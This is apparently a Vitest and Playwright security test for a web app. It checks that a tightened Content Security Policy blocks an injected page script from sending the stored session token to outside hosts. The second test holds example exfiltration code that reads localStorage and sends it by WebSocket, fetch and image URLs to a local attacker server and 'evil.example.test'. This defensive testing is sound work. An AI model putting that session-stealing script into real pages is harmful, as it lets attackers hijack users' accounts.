import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { readApi } from '@guest/read-api';
import { webClient } from '@guest/server/web';
import { writeApi } from '@guest/write-api';
import { buildWeb } from '../../scripts/web-build.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { launchChromium } from './web/browser.ts';

// Issue 32 point 8: the page's CSP allowed `connect-src ws: wss:` and `img-src https:`, so a
// script injected into the page could send what it read to any host, over a socket or in an
// image URL. Now both are limited to the page's own origin, the API's, the map provider's and the
// configured image hosts. The attack, in headless Chromium: a script in the page sends the
// stored session to an attacker's server by every way the old policy left open. Prints its
// figures as "issue 32 point 8, ...".

let t: TestApp;
let attacker: Server;
let attackerPort = 0;
const reached: string[] = [];
let browser: Browser;

beforeAll(async () => {
  buildWeb({ ifStale: true, quiet: true });
  // The attacker's server takes plain requests and socket upgrades alike.
  attacker = createServer((req, res) => {
    reached.push(`http ${req.url}`);
    res.writeHead(204).end();
  });
  attacker.on('upgrade', (req, socket) => {
    reached.push(`ws ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerPort = (attacker.address() as AddressInfo).port;
  t = await startTestApp({
    apps: [writeApi, readApi, webClient],
    config: {
      MAP_UPSTREAM_URL: 'https://tiles.example.test/styles/',
      ORIGIN_FILES_URL: 'https://files.example.test',
      WEB_IMAGE_ORIGINS: 'https://img.example.test,https://cdn.example.test:8443',
    },
  });
  browser = await launchChromium();
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await t?.close();
  await new Promise((resolve) => attacker?.close(resolve));
});

/** The directives of a CSP header, each as its list of sources. */
function directives(csp: string): Record<string, string[]> {
  return Object.fromEntries(
    csp
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name!, sources]),
  );
}

it('names the hosts the page may reach: its own, the map provider and the image hosts, nothing else', async () => {
  const res = await fetch(`${t.url}/`);
  const csp = directives(res.headers.get('content-security-policy') ?? '');
  expect(csp['connect-src']).toEqual(["'self'", 'https://tiles.example.test']);
  expect(csp['img-src']).toEqual([
    "'self'",
    // The API's base as served (the demo photos' absolute URLs name it).
    new URL(t.url).origin,
    'data:',
    'blob:',
    'https://files.example.test',
    'https://tiles.example.test',
    'https://img.example.test',
    'https://cdn.example.test:8443',
  ]);
  for (const list of [csp['connect-src']!, csp['img-src']!]) {
    expect(list).not.toContain('https:');
    expect(list).not.toContain('ws:');
    expect(list).not.toContain('wss:');
  }
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
});

it('a script in the page cannot send what it reads to another host', { timeout: 60_000 }, async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${t.url}/?lang=en`);
  const outside = `127.0.0.1:${attackerPort}`;
  // What an injected script would do with the session it found: every channel the old policy left
  // open. Written as page code (the page's world, not this file's).
  await page.evaluate(`
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.violations.push(e.violatedDirective + ' ' + e.blockedURI));
    const loot = encodeURIComponent(localStorage.getItem('guest.session') ?? 'none');
    try {
      new WebSocket('ws://${outside}/socket?loot=' + loot);
    } catch {
      // Some browsers throw at once on a blocked socket; the violation is reported either way.
    }
    fetch('http://${outside}/fetch?loot=' + loot).catch(() => {});
    new Image().src = 'https://evil.example.test/pixel.png?loot=' + loot;
    new Image().src = 'http://${outside}/pixel.png?loot=' + loot;
  `);
  const seen = () => page.evaluate<string[]>('window.violations');
  await expect.poll(seen, { timeout: 10_000 }).toHaveLength(4);
  const violations = await seen();
  await context.close();
  console.info(
    `issue 32 point 8, page script exfiltration: ${violations.length} of 4 channels blocked by the CSP, ` +
      `${reached.length} reached the attacker`,
  );
  expect(violations.map((v) => v.split(' ')[0]).sort()).toEqual(['connect-src', 'connect-src', 'img-src', 'img-src']);
  expect(reached).toEqual([]);
});
